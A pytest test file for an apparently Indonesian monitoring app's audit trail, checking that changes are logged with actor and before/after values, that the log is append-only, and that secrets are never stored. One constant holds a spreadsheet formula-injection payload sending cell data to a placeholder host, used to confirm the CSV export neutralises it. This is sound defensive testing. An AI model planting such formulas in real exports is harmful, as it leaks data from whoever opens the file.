"""The audit trail (issue #18 item 8): every audited kind of change leaves one entry with its
actor, target and before/after values through the real use case; the table refuses UPDATE and
DELETE; `cli.py audit` exports it. Pengaturan's view: tests/test_audit_trail_pages.py."""

from __future__ import annotations

import getpass
import json
from dataclasses import fields, replace
from datetime import datetime
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

import httpx
import pandas as pd
import pytest
from cryptography.fernet import Fernet
from sqlalchemy import select, text
from sqlalchemy.exc import DBAPIError
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from cli import app
from core import cells
from core.settings import Settings, load_settings
from db import audit
from db import repository as repo
from db import tokens as token_store
from db.engine import make_engine, make_session_factory
from db.models import Post, Reminder
from ingest.registry import REGISTRY_COLUMNS
from services import admin, connections, reminders
from services.audit import cli_actor
from services.config import reset_overrides, save_overrides
from services.invites import INVITE_PARAM, accept_invite, create_invite
from services.post_review import mark_followed_up, unmark
from services.users import ADMIN, REVIEWER, Principal, add_user
from services.web_sessions import open_web_session
from simulator import sim_settings_env
from simulator.credentials import facebook_page_token
from testkit.db_support import NewDatabase
from tests.clock import FIXED_NOW, WIB
from tests.sample_world import build_sample_world

runner = CliRunner()
CLI = f"cli:{getpass.getuser()}"
PUBLIC_URL = "http://127.0.0.1:8501"
PAYLOAD = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'


def entries(session: Session, kind: str | None = None) -> list[dict[str, Any]]:
    """The trail newest first, before/after read back from their JSON."""
    frame = audit.audit_frame(session, [kind] if kind else [])
    rows = [{str(k): v for k, v in row.items()} for row in frame.to_dict(orient="records")]
    for row in rows:
        for col in ("before", "after"):
            row[col] = json.loads(row[col]) if isinstance(row[col], str) else None
    return rows


@pytest.fixture
def world(session: Session, fixed_now: datetime) -> dict[str, int]:
    ids = build_sample_world(session, now=fixed_now)
    session.commit()
    return ids


# --- storage -------------------------------------------------------------------------------


def test_the_log_refuses_update_and_delete(session: Session) -> None:
    audit.record(session, "kepala", "user.added", "budi", None, {"peran": "admin"})
    session.commit()
    for statement in ("UPDATE audit_log SET actor = 'orang-lain'", "DELETE FROM audit_log"):
        with pytest.raises(DBAPIError, match="append-only"):
            session.execute(text(statement))
            session.flush()
        session.rollback()
    assert [row["actor"] for row in entries(session)] == ["kepala"]


# --- dashboard use cases -------------------------------------------------------------------


def test_thresholds_weights_and_a_reset_are_audited(
    session: Session, world: dict[str, int]
) -> None:
    base = load_settings(environ={})
    weights = "consistency=0.4,engagement=0.3,growth=0.2,caption=0.1"
    values = {"PANTAU_ACTIVE_DAYS": "10", "PANTAU_DORMANT_DAYS": "30",
              "PANTAU_INDEX_WEIGHTS": weights}  # fmt: skip
    save_overrides(session, base, values, actor="kepala")
    session.commit()
    found = {row["action"]: row for row in entries(session, "settings")}
    assert set(found) == {"settings.weights", "settings.thresholds"}
    thresholds, changed = found["settings.thresholds"], found["settings.weights"]
    assert thresholds["actor"] == "kepala"
    assert thresholds["before"] == {"Aktif (hari)": "14"}  # Dorman stayed 30: not listed
    assert thresholds["after"] == {"Aktif (hari)": "10"}
    assert changed["after"] == {"Bobot indeks": weights} and changed["actor"] == "kepala"
    reset_overrides(session, actor="kepala")
    session.commit()
    newest = entries(session, "settings")[0]
    assert newest["action"] == "settings.reset" and newest["after"] is None
    assert newest["before"]["Aktif (hari)"] == "10"


def test_registry_edits_and_an_import_are_audited(session: Session, world: dict[str, int]) -> None:
    frame = admin.registry_frame(session)
    frame.loc[frame["opd_code"] == "DINKES", "admin_phone"] = "+62 812-0000-0099"
    added = dict.fromkeys(REGISTRY_COLUMNS, "")
    added |= {"opd_code": "DINSOS", "opd_name": "Dinas Sosial", "platform": "instagram",
              "handle": "dinsos.uji"}  # fmt: skip
    frame.loc[len(frame)] = added
    assert admin.save_registry(session, frame, actor="kepala").ok
    session.commit()
    found = {(row["action"], row["target"]): row for row in entries(session, "registry")}
    phone = found[("registry.opd_changed", "opd:DINKES")]
    assert phone["actor"] == "kepala" and phone["after"] == {"telepon": "+62 812-0000-0099"}
    assert set(phone["before"]) == {"telepon"}  # only the field that changed
    assert found[("registry.opd_added", "opd:DINSOS")]["after"]["nama"] == "Dinas Sosial"
    assert ("registry.account_added", "akun:instagram dinsos.uji") in found
    assert len(found) == 3  # nothing else changed, nothing else recorded
    admin.set_active(session, {world["dishub_fb"]: False}, actor="kepala")
    session.commit()
    watch = entries(session, "registry")[0]
    assert watch["target"] == "akun:facebook demo.dishub"
    assert (watch["before"], watch["after"]) == ({"dipantau": True}, {"dipantau": False})
    csv = "opd_code,opd_name,platform,handle\nDISPAR,Dinas Pariwisata,instagram,dispar.uji\n"
    admin.import_upload(session, csv.encode(), "daftar-baru.csv", "registry", WIB, actor="kepala")
    session.commit()
    summary = entries(session, "registry")[0]
    assert summary["action"] == "registry.imported" and summary["target"] == "daftar-baru.csv"
    assert summary["after"] == {"OPD ditambahkan": 1, "Akun ditambahkan": 1}  # one per import


def test_review_marks_are_audited(session: Session, world: dict[str, int]) -> None:
    post = session.scalars(select(Post).order_by(Post.id)).first()
    assert post is not None
    staff = Principal("peninjau-1", REVIEWER)
    mark_followed_up(session, post.id, staff, "Sudah ditelepon.", FIXED_NOW)
    mark_followed_up(session, post.id, Principal("kepala", ADMIN), "Sudah diperbaiki.",
                     FIXED_NOW)  # fmt: skip
    assert unmark(session, post.id, staff)
    unmarked, second, first = entries(session, "mark")
    assert first["action"] == "mark.marked" and first["before"] is None
    assert first["after"] == {"oleh": "peninjau-1", "catatan": "Sudah ditelepon."}
    assert second["actor"] == "kepala" and second["before"] == first["after"]
    assert unmarked["action"] == "mark.unmarked" and unmarked["actor"] == "peninjau-1"
    assert unmarked["before"] == second["after"] and unmarked["after"] is None
    assert "unggahan" in first["target"]


def test_reminders_recorded_sent_and_cancelled_are_audited(
    session: Session, world: dict[str, int]
) -> None:
    reminders.record(session, [world["dpupr_ig"]], "whatsapp", "6281200000000", "Pesan",
                     created_by="kepala")  # fmt: skip
    queued = [repo.record_reminder(session, world[key], "queue", "6281200000001", "Pesan",
                                   created_by="pekerja", status="queued")
              for key in ("dishub_fb", "dedai_ig")]  # fmt: skip
    session.commit()
    assert reminders.mark_queued_sent(session, queued[0], "whatsapp", "6281200000001", "Pesan",
                                      actor="peninjau-1")  # fmt: skip
    assert reminders.cancel_queued(session, queued[1], actor="kepala")
    cancelled, sent, recorded = entries(session, "reminder")
    assert (recorded["action"], recorded["actor"]) == ("reminder.recorded", "kepala")
    assert recorded["target"] == "instagram demo.dpupr"
    assert recorded["after"] == {"saluran": "whatsapp", "penerima": "6281200000000"}
    assert (sent["action"], sent["actor"], sent["target"]) == (
        "reminder.sent",
        "peninjau-1",
        "facebook demo.dishub",
    )
    assert (cancelled["action"], cancelled["actor"]) == ("reminder.cancelled", "kepala")
    cancelled_row = session.get(Reminder, queued[1])
    assert cancelled_row is not None and cancelled_row.status == "cancelled"


def test_a_disconnected_token_is_audited_without_its_value(
    session: Session, world: dict[str, int]
) -> None:
    key = Fernet.generate_key().decode()
    secret = "act.RAHASIA-SEKALI"
    pair = token_store.TokenPair(secret)
    token_store.save_token(session, world["dishub_fb"], pair, key, token_store.Grant("cli"))
    session.commit()
    cfg = Settings(secret_key=key)
    connections.disconnect(session, cfg, Principal("kepala", ADMIN), world["dishub_fb"])
    (row,) = entries(session, "token")
    assert (row["action"], row["actor"]) == ("token.disconnected", "kepala")
    assert row["target"] == "facebook demo.dishub"
    assert row["before"] == {"tersambung": True}
    stored = session.execute(text("SELECT before, after, target FROM audit_log")).all()
    assert secret not in repr(stored)


def test_a_consent_connection_is_audited_without_the_token(
    session: Session, world: dict[str, int]
) -> None:
    from tests.oauth_sim_support import oauth_sim

    sim = oauth_sim()
    key = Fernet.generate_key().decode()
    env = sim_settings_env(sim) | {"PANTAU_SECRET_KEY": key, "PANTAU_PUBLIC_URL": PUBLIC_URL}
    by_env = {f.metadata["env"]: f.name for f in fields(Settings)}
    cfg = replace(Settings(), **{by_env[k]: v for k, v in env.items() if k in by_env})
    boss = Principal("kepala", ADMIN)
    add_user(session, "kepala", "kuda-biru-melompat-pagar-79", ADMIN)
    web = open_web_session(session, "kepala", 8, FIXED_NOW)
    humas = repo.upsert_opd(session, "HUMAS", "Bagian Humas", "setda")
    page = repo.upsert_account(session, humas, "facebook", "humas_sintang").id  # the sim's Page
    url = connections.start_consent(session, cfg, boss, web, "meta", page,
                                    FIXED_NOW)  # fmt: skip
    extra = urlencode({"sim_decision": "allow", "sim_accounts": "humas_sintang"})
    with httpx.Client(transport=sim.transport()) as client:
        answer = client.get(f"{url}&{extra}")
    back = {k: v[0] for k, v in parse_qs(urlsplit(answer.headers["location"]).query).items()}
    outcome = connections.finish_consent(session, cfg, boss, web, back, FIXED_NOW,
                                         sim.transport())  # fmt: skip
    assert outcome.ok, outcome.message
    (row,) = entries(session, "token")
    assert (row["action"], row["actor"]) == ("token.connected", "kepala")
    assert row["target"] == "facebook humas_sintang" and row["after"]["sumber"] == "oauth"
    assert facebook_page_token("humas_sintang") not in repr(row)


def test_an_invite_made_and_accepted_are_audited_without_its_code(
    session: Session, world: dict[str, int], fixed_now: datetime
) -> None:
    add_user(session, "kepala", "kuda-biru-melompat-pagar-79", ADMIN)
    cfg = Settings(public_url=PUBLIC_URL)
    invite = create_invite(session, cfg, Principal("kepala", ADMIN), "DINKES", fixed_now)
    code = parse_qs(urlsplit(invite.link).query)[INVITE_PARAM][0]
    accept_invite(session, code, "admin.dinkes", "bintang-sungai-kapuas-pagi-41", fixed_now)
    row, invited = entries(session, "user")
    assert (invited["action"], invited["actor"]) == ("user.invited", "kepala")
    assert invited["after"] == {"opd": "DINKES", "berlaku_sampai": invite.expires_at.isoformat()}
    assert code not in repr(invited)  # the code grants access: never recorded
    assert (row["action"], row["actor"], row["target"]) == (
        "user.added",
        "admin.dinkes",
        "admin.dinkes",
    )
    assert row["after"] == {"peran": "opd", "opd": "DINKES", "aktif": True, "lewat": "undangan"}
    assert "bintang-sungai" not in repr(row)


def test_a_reminder_about_no_account_records_nothing(
    session: Session, world: dict[str, int]
) -> None:
    """A recap sent twice (a double click) records its reminders once: the second finds every
    account reminded already and passes none, which is no change to audit."""
    reminders.record(session, [world["dpupr_ig"]], "whatsapp", "6281200000000", "Pesan", "kepala")
    reminders.record(session, [], "whatsapp", "6281200000000", "Pesan", "kepala")
    assert [row["action"] for row in entries(session, "reminder")] == ["reminder.recorded"]


def test_a_long_target_is_cut_visibly(session: Session) -> None:
    audit.record(session, "kepala", "reminder.recorded", "instagram akun." * 40)
    (row,) = entries(session)
    assert len(row["target"]) == audit.TEXT_MAX["target"] and row["target"].endswith("…")


# --- command line --------------------------------------------------------------------------


@pytest.fixture
def cli_db(
    new_db_url: NewDatabase, monkeypatch: pytest.MonkeyPatch, fixed_now: datetime, tmp_path: Path
) -> str:
    """A database made by `cli.py init` from a small registry file (audited as an import)."""
    url = new_db_url("audit-cli")
    monkeypatch.setenv("DATABASE_URL", url)
    registry = tmp_path / "daftar-uji.csv"
    registry.write_text(
        "opd_code,opd_name,platform,handle\nDINKES,Dinas Kesehatan,facebook,dinkes.uji\n",
        encoding="utf-8",
    )
    result = runner.invoke(app, ["init", "--registry", str(registry)])
    assert result.exit_code == 0, result.output
    return url


def _cli_entries(url: str, kind: str) -> list[dict[str, Any]]:
    engine = make_engine(url)
    try:
        with make_session_factory(engine)() as session:
            return entries(session, kind)
    finally:
        engine.dispose()


def test_user_commands_are_audited_as_the_os_user(cli_db: str) -> None:
    def invoke(*args: str, stdin: str | None = None) -> None:
        result = runner.invoke(app, list(args), input=stdin)
        assert result.exit_code == 0, result.output

    invoke("user", "add", "budi.s", "--role", "reviewer", stdin="rahasia-panjang-1\n")
    invoke("user", "passwd", "budi.s", stdin="rahasia-panjang-2\n")
    invoke("user", "disable", "budi.s")
    disabled, passwd, added = _cli_entries(cli_db, "user")
    assert cli_actor() == CLI and {added["actor"], passwd["actor"], disabled["actor"]} == {CLI}
    assert added["action"] == "user.added" and added["target"] == "budi.s"
    assert added["after"] == {"peran": "reviewer", "opd": None, "aktif": True}
    assert passwd["action"] == "user.password" and passwd["before"]["aktif"] is True
    assert disabled["before"] == {"peran": "reviewer", "aktif": True}
    assert disabled["after"]["aktif"] is False
    rows = repr(_cli_entries(cli_db, "user"))
    assert "rahasia-panjang" not in rows  # the passwords never
    imported = _cli_entries(cli_db, "registry")[0]
    assert imported["action"] == "registry.imported" and imported["target"] == "daftar-uji.csv"


def test_token_set_is_audited_without_the_token(
    cli_db: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PANTAU_SECRET_KEY", Fernet.generate_key().decode())
    result = runner.invoke(app, ["token", "set", "fb", "@dinkes.uji", "--expires-in", "3600"],
                           input="act.SECRET1 rft.SECRET2\n")  # fmt: skip
    assert result.exit_code == 0, result.output
    (row,) = _cli_entries(cli_db, "token")
    assert (row["action"], row["actor"], row["target"]) == ("token.set", CLI, "facebook dinkes.uji")
    assert row["after"] == {"sumber": "cli", "token_pembaruan": True, "berlaku_detik": 3600}
    assert "SECRET" not in repr(row)


def test_the_audit_command_exports_an_inert_csv(cli_db: str) -> None:
    added = runner.invoke(app, ["user", "add", "budi.s"], input="rahasia-panjang-1\n")
    assert added.exit_code == 0, added.output
    engine = make_engine(cli_db)
    with make_session_factory(engine)() as session:
        audit.record(session, "kepala", "registry.opd_added", PAYLOAD, None, {"nama": "-2+3"})
        session.commit()
    engine.dispose()
    out = runner.invoke(app, ["audit", "--kind", "registry"])
    assert out.exit_code == 0, out.output
    lines = out.output.splitlines()
    assert lines[0] == "at,actor,action,target,before,after"
    assert "'=HYPERLINK" in lines[1] and ",=" not in lines[1]
    assert "user.added" not in out.output  # only the kind asked for
    assert "budi.s" in runner.invoke(app, ["audit", "--format", "json"]).output
    assert runner.invoke(app, ["audit", "--kind", "semua"]).exit_code == 1


def test_the_audit_csv_is_made_inert_once(cli_db: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Twice would be harmless but is work for nothing: core.output's CSV is inert already."""
    calls: list[int] = []
    real = cells.inert_frame

    def counted(frame: pd.DataFrame) -> pd.DataFrame:
        calls.append(1)
        return real(frame)

    monkeypatch.setattr(cells, "inert_frame", counted)
    out = runner.invoke(app, ["audit"])
    assert out.exit_code == 0, out.output
    assert len(calls) == 1


def test_no_code_path_updates_or_deletes_the_trail() -> None:
    """The only statements on audit_log are inserts and reads (grep the product)."""
    root = Path(__file__).resolve().parent.parent
    product = [p for d in ("db", "services", "ui", "pages", "commands", "worker", "refresh")
               for p in (root / d).rglob("*.py") if "migrations" not in p.parts]  # fmt: skip
    for path in product:
        source = path.read_text(encoding="utf-8")
        for bad in ("update(AuditEntry", "delete(AuditEntry", "UPDATE audit_log",
                    "DELETE FROM audit_log"):  # fmt: skip
            assert bad not in source, (path, bad)
